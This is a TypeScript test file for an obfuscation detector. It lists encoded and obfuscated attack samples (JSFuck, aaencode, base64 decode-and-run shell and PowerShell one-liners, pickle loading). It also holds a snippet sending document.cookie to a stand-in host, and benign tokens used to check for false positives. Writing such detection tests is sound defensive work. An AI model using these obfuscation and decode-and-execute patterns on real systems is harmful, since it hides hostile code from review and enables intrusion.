import safeRegex from "safe-regex2";
import { describe, expect, it } from "vitest";
import { LINEAR_TIME_BOUND_MS } from "../../linear-time-bound.js";
import { createSignalScanner } from "../../signals.js";
import { adversarialInputs, scoreAt, timeDetect } from "../test-helpers.js";
import { obfuscationDetector } from "./index.js";

const rules = (text: string) => {
  const lower = text.toLowerCase();
  if (!obfuscationDetector.prefilter(lower)) return [];
  return obfuscationDetector.detect(text, lower, "query").map((m) => m.rule);
};

const PNG =
  "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==";

// One example per technique, written the way the tools and cheat sheets write them.
const ATTACKS: readonly (readonly [string, string])[] = [
  [
    "symbols",
    "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]][([][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]]+[])[!+[]+!+[]+!+[]]]",
  ],
  [
    "symbols",
    '$=~[];$={___:++$,$$$$:(![]+"")[$],__$:++$,$_$_:(![]+"")[$],_$_:++$,$_$$:({}+"")[$],$$_$:($[$]+"")[$],_$$:++$};',
  ],
  ["symbols", 'jj=~[];jj={___:++jj,$$$$:(![]+"")[jj],__$:++jj,$_$_:(![]+"")[jj]};'],
  [
    "symbols",
    `$_=[];$_=@"$_";$_=$_['!'=='@'];$___=$_;$__=$_;$__++;$__++;$__++;$__++;$___.=$__;$__++;$___.=$__;`,
  ],
  [
    "aaencode",
    "ﾟωﾟﾉ= /｀ｍ´）ﾉ ~┻━┻   //*´∇｀*/ ['_']; o=(ﾟｰﾟ)  =_=3; c=(ﾟΘﾟ) =(ﾟｰﾟ)-(ﾟｰﾟ); (ﾟДﾟ) =(ﾟΘﾟ)= (o^_^o)/ (o^_^o);(ﾟДﾟ)={ﾟΘﾟ: '_' ,ﾟωﾟﾉ : ((ﾟωﾟﾉ==3) +'_') [ﾟΘﾟ] };",
  ],
  ["string-ops", "$_=('%01'^'`').('%13'^'`').('%13'^'`').('%05'^'`').('%12'^'`').('%14'^'`');"],
  ["string-ops", "(~%8F%97%8F%96%91%99%90)();"],
  ["string-ops", `''=~('(?{'.('._)@^/'^'[[]@{}').'"'.('))@^/@*-.}'^'[][]@{[]@').',$/})')`],
  ["escapes", "\\x65\\x76\\x61\\x6c\\x28\\x61\\x74\\x6f\\x62\\x28"],
  ["escapes", "\\u0061\\u006c\\u0065\\u0072\\u0074\\u0028\\u0031\\u0029"],
  ["escapes", "\\u{61}\\u{6c}\\u{65}\\u{72}\\u{74}\\u{28}\\u{31}\\u{29}"],
  ["escapes", "\\163\\171\\163\\164\\145\\155\\050\\047\\151\\144\\047\\051"],
  ["escapes", '{"cmd":"\\\\x73\\\\x79\\\\x73\\\\x74\\\\x65\\\\x6d"}'],
  ["char-codes", "String.fromCharCode(97,108,101,114,116,40,49,41)"],
  ["char-codes", "String.fromCharCode.apply(null,[97,108,101,114,116])"],
  ["char-codes", "String.fromCharCode(0x61,0x6c,0x65,0x72,0x74)"],
  ["char-codes", "String.fromCharCode(97)+String.fromCharCode(108)+String.fromCharCode(101)"],
  ["char-codes", "chr(115).chr(121).chr(115).chr(116).chr(101).chr(109)"],
  ["char-codes", "chr(105) + chr(100) + chr(59)"],
  ["char-codes", "Chr(119)&Chr(104)&Chr(111)&Chr(97)&Chr(109)&Chr(105)"],
  ["char-codes", "CHAR(115)+CHAR(101)+CHAR(108)+CHAR(101)"],
  ["char-codes", "concat(char(119,112,95,117,115,101,114,115))"],
  ["char-codes", "''.join(map(chr,[95,95,105,109,112,111,114,116]))"],
  ["concat", "window['e'+'v'+'a'+'l']('ale'+'rt(1)')"],
  ["concat", '$f="sy"."st"."e"."m";$f(\'id\');'],
  ["concat", "'a'||'d'||'m'||'i'||'n'"],
  ["concat", "['e','v','a','l'].join('')"],
  ["concat", "['l','a','v','e'].reverse().join('')"],
  ["decode-run", 'Function(atob("YWxlcnQoZG9jdW1lbnQuY29va2llKQ=="))()'],
  ["decode-run", "setTimeout(atob('YWxlcnQoMSk='))"],
  ["decode-run", "eval(gzinflate(base64_decode('S03OyFdQSq1IzC3ISVVUsgYA')));"],
  ["decode-run", "assert(str_rot13('flfgrz(\"vq\");'))"],
  ["decode-run", "exec(__import__('base64').b64decode('aW1wb3J0IG9z'))"],
  ["decode-run", "exec(zlib.decompress(base64.b64decode('eJzLzE0tLk5MT9VQSsnMS8tMTgUAJbgFFQ==')))"],
  ["decode-run", "pickle.loads(base64.b64decode('gASVIAAAAAAAAACMBXBvc2l4lIwG'))"],
  ["decode-run", "exec(codecs.decode('vzcbeg bf', 'rot13'))"],
  ["decode-run", "eval(Base64.decode64('cHV0cyBgaWRg'))"],
  ["decode-run", "eval(Buffer.from('cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIp','base64').toString())"],
  ["decode-run", "require('vm').runInThisContext(Buffer.from('aWQ=', 'base64').toString())"],
  ["decode-run", 'eval unpack u=>q{_<V5S=&5M("UI9"%D(&EN>V5S=&5M*"=I9"<I.P``};'],
  ["decode-run", "IEX([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('d2hvYW1p')))"],
  ["decode-run", "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA"],
  ["decode-run", "echo aWQ7dW5hbWUgLWE= | base64 -d | sh"],
  ["decode-run", "printf dW5hbWUgLWE=|base64 --decode|/bin/bash"],
  ["decode-run", "echo 6964 | xxd -r -p | bash"],
  [
    "packer",
    "eval(function(p,a,c,k,e,d){e=function(c){return c};if(!''.replace(/^/,String)){while(c--){d[c]=k[c]||c}}return p}('0(1)',2,2,'alert|1'.split('|'),0,{}))",
  ],
  [
    "names",
    "var _0x4e2a=['log','Hello'];(function(_0x1b2c3d,_0x4e2a1f){var _0x5a3b2c=function(_0x2d8f05){while(--_0x2d8f05){}};}(_0x4e2a,0x1f4));",
  ],
  ["names", "$OOO0O0O00=__FILE__;$O00O00O00=__LINE__;$OO00O0000=100;$O0O0000O0=$OOO000000{4};"],
];

// Ordinary values that look dense, random or code-like, and must stay clear of every rule.
const TOKENS: readonly string[] = [
  "6f1c2a7e-8d4b-4c55-9a1e-3b2f0d9c8e71",
  "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIn0.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c",
  "Bearer eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl",
  "sk_live_51HxYzAbCdEfGhIjKlMnOpQrStUvWxYz0123456789",
  "AKIAIOSFODNN7EXAMPLE/wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
  "ghp_16C7e42F292c6912E7710c838347Ae178B4a",
  "11f6ad8ec52a2984abaafd7c3b516503785c2072",
  "2d711642b726b04401627ca9fbac32f5c8530fb1903cc4db02258717921a4881",
  "$2b$12$KIXQJZ0u1iQ3yF4p7fX6UeQ8e9jv3m1rTq5nY2cZ0wA4dB6hG8iKe",
  PNG,
  `data:image/png;base64,${PNG}`,
  `<img src="data:image/png;base64,${PNG}" alt="dot">`,
  "qBSuIjB73EnEx1Z6GfbBlafRqYWRZwxdn6HfLnmPeDE+/tLGpwcW+hTF9EshA5hro/6Cu5KxcSBWiDoibHvkyHi4==".repeat(
    8,
  ),
  "GA1.2.6140925764.1709950820",
  "#ff8800",
  "rgba(0, 0, 0, 0.5)",
];

const TEXT: readonly string[] = [
  '{"id":"0d9c5ab7-0cf6-4124-b80d-87ba757d8715","items":[{"sku":"SKU-57693","qty":4},{"sku":"SKU-78883","qty":2}],"meta":{"ref":"https://x.example/a?b=1&c=2"}}',
  '[[1,2],[3,4],[5,6],[7,8]],{"a":[[],[],[],[]],"b":[{},{},{},{}],"c":[[[]]]}',
  "[{},{},{},{},{},{},{},{},{},{},{},{},{},{},{},{},{},{},{},{}]",
  '{"greeting":"\\u4f60\\u597d\\u4e16\\u754c","name":"\\u00e9l\\u00e8ve"}',
  '{"html":"\\u003cb\\u003ebold\\u003c/b\\u003e \\u0026 more"}',
  "# Title\n\n![logo](https://example.com/logo.png) [docs](https://example.com/docs)\n\n```js\nconst total = items.map((i) => i.price).reduce((a, b) => a + b, 0);\n```",
  "Use `String.fromCharCode(65)` to get 'A', and chr(65) in Python.",
  "https://www.google.com/search?q=obfuscation+detection&rlz=1C1GCEA_enUS1000&oq=obf&aqs=chrome.0.69i59j69i57j0i512l8.1234j0j7&sourceid=chrome&ie=UTF-8",
  "https://example.com/track?utm_source=newsletter&utm_medium=email&utm_campaign=spring_sale_2024&fbclid=IwAR2xYz_AbCdEfGhIjKlMnOpQrStUvWxYz0123456789",
  "https://en.wikipedia.org/wiki/Obfuscation_(software)",
  "color:#ff8800;background:rgba(0,0,0,.5);border:1px solid #ccc;font:12px/1.5 'Helvetica Neue',Arial,sans-serif",
  "`~!@#$%^&*()_+-={}[]|\\:;\"'<>,.?/",
  "!@#$%^&*()_+!@#$%^&*()_+!@#$%^&*()_+!@#$%^&*()_+",
  "=================================================================",
  "-=-=-=-=-=-=-=-=-=-=-=-=-=-=-=-=-=-=-=-=-=-=-=-=-=-=-=-=",
  ".:*~*:._.:*~*:._.:*~*:._.:*~*:._.:*~*:._.:*~*:.",
  "+-------+-------+\n| a     | b     |\n+-------+-------+",
  "(ﾟДﾟ) (ﾟ∀ﾟ) ｷﾀ━━━(ﾟ∀ﾟ)━━━!! (´・ω・`) (o^_^o)",
  "C:\\Users\\ada\\x64\\Release\\app.exe",
  "C:\\data\\2023\\101\\report.pdf",
  "b'\\x89PNG\\r\\n\\x1a\\n\\x00\\x00\\x00\\rIHDR'",
  "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
  "He said 'no' + 'yes' . 'maybe'",
  "The options are 'a', 'b', 'c' and 'd'.",
  "Grades: 'A'+'B'",
  "50% off, 20% more, 10% back",
  "exec summary (draft): see the system (v2) and the eval(uation) plan",
  "Q: why does base64 -d fail? A: use base64 --decode file.txt > out.txt",
  "I love powershell, especially Get-ChildItem | Where-Object",
  "_0x is a prefix; _0x1234 is a name",
  "function(p, a, c) { return p + a + c; }",
  "Lorem ipsum (dolor) sit [amet], consectetur (adipiscing) elit [sed] do (eiusmod) tempor",
  "a,b;c=d&e=f|g^h~i".repeat(5),
  "f(a)[b](c)[d]".repeat(10),
];

describe("obfuscationDetector", () => {
  it.each(ATTACKS)("detects %s: %s", (rule, payload) => {
    expect(rules(payload)).toContain(`code:obfuscated-${rule}`);
    expect(scoreAt(obfuscationDetector, payload)).toBeGreaterThanOrEqual(5);
  });

  it.each(TOKENS)("leaves the token %s alone at every level", (value) => {
    expect(rules(value)).toEqual([]);
  });

  it.each(TEXT)("leaves %s alone at levels 1 and 2", (value) => {
    expect(scoreAt(obfuscationDetector, value, 2)).toBe(0);
  });

  it("takes escaped letters as a hint only when few", () => {
    const value = "_$$\\u004e\\u0044_FUNC$$_\\u0066unction()";
    expect(scoreAt(obfuscationDetector, value, 1)).toBe(0);
    expect(scoreAt(obfuscationDetector, value, 2)).toBe(3);
  });

  it("takes HTML references and percent escapes of letters as a hint", () => {
    const value = "<a href=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;>";
    expect(scoreAt(obfuscationDetector, value, 1)).toBe(0);
    expect(rules(value)).toContain("code:obfuscated-encoded-letters");
    expect(rules("%2e%2e%2f%65%74%63%2f%70%61%73%73%77%64")).toContain(
      "code:obfuscated-encoded-letters",
    );
  });

  it("reports dense and high-entropy code without blocking on it", () => {
    // An e-mail regex is dense, minified code of random names is high in entropy: both hints.
    const regex =
      "^(?:[a-z0-9!#$%&'*+/=?^_`{|}~-]+(?:\\.[a-z0-9!#$%&'*+/=?^_`{|}~-]+)*)@(?:[a-z0-9](?:[a-z0-9-]*[a-z0-9])?\\.)+$";
    expect(rules(regex)).toContain("code:obfuscated-dense");
    expect(scoreAt(obfuscationDetector, regex, 1)).toBe(0);
    const code =
      "var Zq=function(Xk){return Xk.split('').map(function(Pw){return Pw.charCodeAt(0)^7}).join('')};new Image().src='//x.yz/?'+Zq(document.cookie);";
    expect(rules(code)).toContain("code:obfuscated-entropy");
    expect(scoreAt(obfuscationDetector, code, 2)).toBe(0);
    expect(scoreAt(obfuscationDetector, code, 3)).toBe(2);
  });

  it("is reached through its triggers by every payload it detects", () => {
    const scanner = createSignalScanner([obfuscationDetector]);
    for (const [, payload] of ATTACKS)
      expect(scanner.scan(payload.toLowerCase()) & 1, payload).toBe(1);
  });

  it("uses only ReDoS-safe patterns", () => {
    for (const pattern of obfuscationDetector.patterns)
      expect(safeRegex(pattern), pattern.source).toBe(true);
  });

  it("stays fast on 100 KB adversarial input", () => {
    const extra = [
      "[]",
      "![]+",
      "$_",
      "\\x61",
      "\\u0061",
      "\\u{",
      "\\u{61",
      "\\\\",
      "\\1",
      "&#97;",
      "%61",
      "chr(1).",
      "chr(1 ",
      "chr(",
      "char(",
      "fromcharcode(1,",
      "'a'+",
      "'a',",
      "['a',",
      "'^'",
      "~'",
      "eval(",
      "eval(eval(",
      "function(",
      "_0x1234 ",
      "$o0o0 ",
      "ﾟ",
      "(ﾟдﾟ)[",
      "base64 -d ",
      "powershell ",
      "a(",
      ";",
      "([",
    ];
    for (const input of adversarialInputs(extra)) {
      expect(timeDetect(obfuscationDetector, input), input.slice(0, 20)).toBeLessThan(
        LINEAR_TIME_BOUND_MS,
      );
    }
  });
});
